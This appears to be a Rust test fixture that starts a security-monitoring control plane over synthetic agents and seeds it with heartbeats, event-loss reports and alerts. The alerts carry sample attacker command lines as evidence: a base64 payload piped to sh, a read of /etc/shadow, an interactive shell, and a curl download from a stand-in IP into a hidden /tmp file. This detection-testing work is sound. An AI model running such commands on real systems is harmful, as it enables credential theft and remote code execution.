//! A control plane over made-up data, on a port of its own: what the dashboard is tried on, and looked at with.

use std::net::SocketAddr;
use std::num::NonZeroU32;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use lavender_control_plane::access::new_token;
use lavender_control_plane::{Commanding, ControlPlane, Options, api, watch};
use lavender_core::command::{KeyId, Signer};
use lavender_core::conformance::sample::Sample;
use lavender_core::event::{Container, Event, EventData, EventKind, LossStage, Process};
use lavender_core::store::{LivenessTimes, Role};
use lavender_core::{
    Alert, Certainty, Clock as _, Evidence, RuleMeta, Severity, SystemClock, TenantId, Timestamp,
};
use lavender_detect::{RuleHandle, RuleSet, RuleSetBuilder};
use lavender_store::{SqliteOptions, SqliteStore, Store};
use tokio::net::TcpListener;

/// What attackers do, in an order that repeats: rule, severity, technique, command line.
const ACTS: [(&str, Severity, &str, &[&str]); 7] = [
    (
        "Command That Decodes and Runs Its Payload",
        Severity::High,
        "t1059.004",
        &["sh", "-c", "echo aWQ= | base64 -d | sh"],
    ),
    (
        "Credential File Read by an Unusual Program",
        Severity::High,
        "t1003.008",
        &["cat", "/etc/shadow"],
    ),
    ("Shell Spawned by a Web Server", Severity::Critical, "t1505.003", &["sh", "-i"]),
    (
        "Download by a Shell's Child",
        Severity::Medium,
        "t1105",
        &["curl", "-fsSL", "http://203.0.113.9/x", "-o", "/tmp/.x"],
    ),
    (
        "Program Run From a World-Writable Directory",
        Severity::Medium,
        "t1036.005",
        &["/tmp/.x", "--daemon"],
    ),
    ("Scheduled Task Changed", Severity::Low, "t1053.003", &["crontab", "-"]),
    ("Host Looked Over", Severity::Informational, "t1082", &["uname", "-a"]),
];

/// A control plane that serves until the process ends, and its data.
#[derive(Debug)]
pub(crate) struct Stage {
    pub(crate) store: Arc<dyn Store>,
    /// `http://host:port`.
    pub(crate) url: String,
    /// A token of an analyst, unless it was to be an admin's.
    pub(crate) token: String,
    plane: ControlPlane,
    /// The agents, and what they saw.
    pub(crate) agents: Vec<Sample>,
    acts: usize,
}

impl Stage {
    /// One over a SQLite file, with agents that have said nothing yet.
    pub(crate) async fn open(path: &Path, agents: usize, liveness: LivenessTimes) -> Self {
        let store = SqliteStore::open(path, SqliteOptions::default()).unwrap();
        let store: Arc<dyn Store> = Arc::new(store);
        let options = Options {
            liveness,
            rules: RuleHandle::new(builtin()),
            sweep_every: Duration::from_millis(200),
            requests_per_second: NonZeroU32::new(10_000).unwrap(),
            commanding: Commanding {
                signer: Some(Arc::new(Signer::generate(KeyId::new("test").unwrap()).unwrap())),
                sink: None,
            },
            ..Options::default()
        };
        let plane = ControlPlane::new(Arc::clone(&store), options);
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let service =
            api::router(plane.clone()).into_make_service_with_connect_info::<SocketAddr>();
        tokio::spawn(async move { axum::serve(listener, service).await });
        let token = token(&*store, Role::Analyst).await;
        let names = ["web", "db", "build", "mail"];
        let agents = (0..agents).map(|number| {
            let name = format!("{}-{}", names[number % names.len()], number / names.len() + 1);
            Sample::new(TenantId::default().as_str(), &name, number as u64 + 1)
        });
        Self { url, token, agents: agents.collect(), acts: 0, store, plane }
    }

    /// Six hours in the life of its agents: a third of them falls silent at once two hours ago, one loses events, and
    /// there are so many alerts.
    pub(crate) async fn fill(&mut self, alerts: usize) {
        let now = SystemClock.now();
        let times = LivenessTimes::default();
        let hours = |hours: u64| Duration::from_secs(hours * 3_600);
        for step in 0..=24 {
            let at = now.saturating_sub(hours(6)).saturating_add(Duration::from_secs(step * 900));
            for number in 0..self.agents.len() {
                let silent = number % 3 == 1 && (16..22).contains(&step);
                if silent || number == 5 && step > 10 {
                    continue;
                }
                self.heard(number, at, step == 0).await;
            }
            if step % 7 == 3 && self.agents.len() > 2 {
                self.lose(2, at, 1_200 + step).await;
            }
            self.store.sweep_liveness(&times, at).await.unwrap();
        }
        for number in 0..self.agents.len() {
            if number != 5 {
                self.heard(number, now, false).await;
            }
        }
        let apart = Duration::from_secs(6 * 3_600) / u32::try_from(alerts.max(1)).unwrap();
        let mut at = now.saturating_sub(hours(6));
        // None of them as late as now, which a page would show as it happens.
        for _ in 0..alerts {
            self.act(at).await;
            at = at.saturating_add(apart);
        }
    }

    /// From now on somebody looks whether agents are there.
    pub(crate) fn watch(&self) {
        tokio::spawn(watch(self.plane.clone()));
    }

    /// An agent says that it is there.
    pub(crate) async fn heard(&mut self, number: usize, at: Timestamp, starts: bool) {
        let agent = &mut self.agents[number];
        agent.set_now(at);
        let event =
            if starts { agent.agent_start("0.1.0") } else { on_the_network(&agent.heartbeat()) };
        self.store.append(&agent.source().clone(), &[event]).await.unwrap();
    }

    /// An agent reports a loss.
    pub(crate) async fn lose(&mut self, number: usize, at: Timestamp, count: u64) {
        let agent = &mut self.agents[number];
        agent.set_now(at);
        let event = agent.lost(LossStage::KernelRing, EventKind::FileOpen, count);
        self.store.append(&agent.source().clone(), &[event]).await.unwrap();
    }

    /// The next of the acts that attackers do, on the next of the agents, stored with what led to it.
    pub(crate) async fn act(&mut self, at: Timestamp) -> Arc<Alert> {
        let number = self.acts;
        self.acts += 1;
        let (title, severity, technique, command) = ACTS[number * 5 % ACTS.len()];
        let agent = number * 7 % self.agents.len();
        self.raise(agent, at, title, severity, technique, command).await
    }

    /// So many alerts of one process, and nothing else.
    pub(crate) async fn flood(&mut self, count: usize) {
        let sample = &mut self.agents[0];
        let about = sample.process();
        sample.set_now(SystemClock.now().saturating_sub(Duration::from_secs(3_600)));
        for _ in 0..count.div_ceil(1_000) {
            let alerts: Vec<_> = (0..1_000)
                .map(|number| {
                    let event = sample.file_open(&about, "/etc/shadow");
                    sample.alert(&event, "flood", Severity::ALL[number % 5])
                })
                .collect();
            self.store.insert(&alerts).await.unwrap();
        }
    }

    /// An agent's process calls the kernel in every way that is told in numbers.
    pub(crate) async fn call_kernel(&mut self, at: Timestamp) {
        let sample = &mut self.agents[0];
        sample.set_now(at);
        let shell = sample.process();
        let child = sample.child(&shell, "/usr/bin/id", &["id"]);
        let events = sample.kernel_calls(&shell, &child);
        self.store.append(&sample.source().clone(), &events).await.unwrap();
    }

    /// An alert with the events around it.
    pub(crate) async fn raise(
        &mut self,
        agent: usize,
        at: Timestamp,
        title: &str,
        severity: Severity,
        technique: &str,
        command: &[&str],
    ) -> Arc<Alert> {
        let sample = &mut self.agents[agent];
        sample.set_now(at);
        let shell = in_container(&sample.process());
        let program = |name: &str| {
            if name.starts_with('/') { name.to_owned() } else { format!("/usr/bin/{name}") }
        };
        let before = in_container(&sample.child(&shell, "/usr/bin/ls", &["ls", "-la", "/srv"]));
        let about = in_container(&sample.child(&shell, &program(command[0]), command));
        let after = in_container(&sample.child(&about, "/usr/bin/id", &["id"]));
        let processes: [&Arc<Process>; 4] = [&shell, &before, &about, &after];
        let mut events: Vec<_> =
            processes.into_iter().map(|process| sample.exec(process)).collect();
        events.push(sample.file_open(&about, "/etc/shadow"));
        let alert = Arc::unwrap_or_clone(sample.alert(&events[2], title, severity));
        let rule = RuleMeta {
            title: title.into(),
            description: Some("Somebody may be doing what this rule looks for.".into()),
            tags: vec!["attack.execution".into(), format!("attack.{technique}").into()],
            references: vec!["https://attack.mitre.org/".into()],
            ..(*alert.rule).clone()
        };
        let line = command.join(" ");
        let evidence =
            |field: &str, value: &str| Evidence { field: field.into(), value: value.into() };
        let alert = Arc::new(Alert {
            rule: Arc::new(rule),
            evidence: vec![evidence("CommandLine", &line), evidence("Image", &program(command[0]))],
            certainty: Certainty::Certain,
            ..alert
        });
        let source = sample.source().clone();
        self.store.append(&source, &events).await.unwrap();
        self.store.insert(&[Arc::clone(&alert)]).await.unwrap();
        alert
    }
}

/// A new token of that role, its secret.
pub(crate) async fn token(store: &dyn Store, role: Role) -> String {
    let (tenant, now) = (TenantId::default(), SystemClock.now());
    let (secret, token) = new_token(tenant, role, role.as_str(), "test", now, None).unwrap();
    store.create_token(&token).await.unwrap();
    secret.reveal()
}

fn builtin() -> RuleSet {
    let mut builder = RuleSetBuilder::new();
    builder.add_builtin();
    builder.build().unwrap().rules
}

/// The same heartbeat of a host that is not isolated.
fn on_the_network(event: &Event) -> Arc<Event> {
    let mut event = event.clone();
    if let EventData::Heartbeat(beat) = &mut event.data {
        beat.isolated = false;
    }
    Arc::new(event)
}

/// The same process in a container.
fn in_container(process: &Arc<Process>) -> Arc<Process> {
    let container = Container {
        name: Some("web".into()),
        image: Some("nginx:1.27".into()),
        ..Container::new("0123456789abcdef".repeat(4), Some("docker"))
    };
    Arc::new(Process { container: Some(Arc::new(container)), ..(**process).clone() })
}
